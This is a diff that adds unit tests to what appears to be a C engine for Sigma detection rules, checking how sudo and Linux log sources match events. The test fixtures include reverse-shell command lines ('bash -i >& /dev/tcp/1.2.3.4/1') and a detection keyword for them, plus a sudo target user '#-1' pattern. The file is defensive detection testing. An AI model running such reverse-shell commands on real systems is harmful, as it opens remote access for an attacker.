@@ -325,6 +325,36 @@ static void test_keywords_services(void **state)
 	assert_int_equal(run(rs, &ev), 0);
 	mk(&ev, EVENT_LOG_LINE, EF_SERVICE, "sshd", EF_MESSAGE, "Accepted publickey", -1);
 	assert_int_equal(run(rs, &ev), 0);
+	mk(&ev, EVENT_LOG_LINE, EF_MESSAGE, "Failed password", -1); /* no service */
+	assert_int_equal(run(rs, &ev), 0);
+	sigma_ruleset_free(rs);
+
+	/* service sudo: sudo events (USER is the target user) and sudo's log lines */
+	rs = load("title: t\nid: s1\nlogsource: {product: linux, service: sudo}\n"
+		  "detection:\n  sel:\n    USER: '#-*'\n  condition: sel\n");
+	sigma_ruleset_errors(rs, &n);
+	assert_int_equal(n, 0);
+	mk(&ev, EVENT_SUDO, EF_TARGET_USER, "#-1", -1);
+	assert_int_equal(run(rs, &ev), 1);
+	mk(&ev, EVENT_SUDO, EF_TARGET_USER, "#-1", EF_SERVICE, "sudo", -1);
+	assert_int_equal(run(rs, &ev), 1);
+	mk(&ev, EVENT_SUDO, EF_TARGET_USER, "root", -1);
+	assert_int_equal(run(rs, &ev), 0);
+	mk(&ev, EVENT_SU, EF_TARGET_USER, "#-1", -1);
+	assert_int_equal(run(rs, &ev), 0);
+	sigma_ruleset_free(rs);
+
+	/* product linux alone: log lines and process command lines */
+	rs = load("title: t\nid: p1\nlogsource: {product: linux}\n"
+		  "detection:\n  keywords:\n    - 'bash -i >& /dev/tcp/'\n  condition: keywords\n");
+	sigma_ruleset_errors(rs, &n);
+	assert_int_equal(n, 0);
+	mk(&ev, EVENT_LOG_LINE, EF_MESSAGE, "x bash -i >& /dev/tcp/1.2.3.4/1 0>&1", -1);
+	assert_int_equal(run(rs, &ev), 1);
+	mk(&ev, EVENT_PROCESS_EXEC, EF_COMMAND_LINE, "bash -c bash -i >& /dev/tcp/1.2.3.4/1", -1);
+	assert_int_equal(run(rs, &ev), 1);
+	mk(&ev, EVENT_NET_CONNECT, EF_COMMAND_LINE, "bash -i >& /dev/tcp/1.2.3.4/1", -1);
+	assert_int_equal(run(rs, &ev), 0);
 	event_free(&ev);
 	sigma_ruleset_free(rs);
 
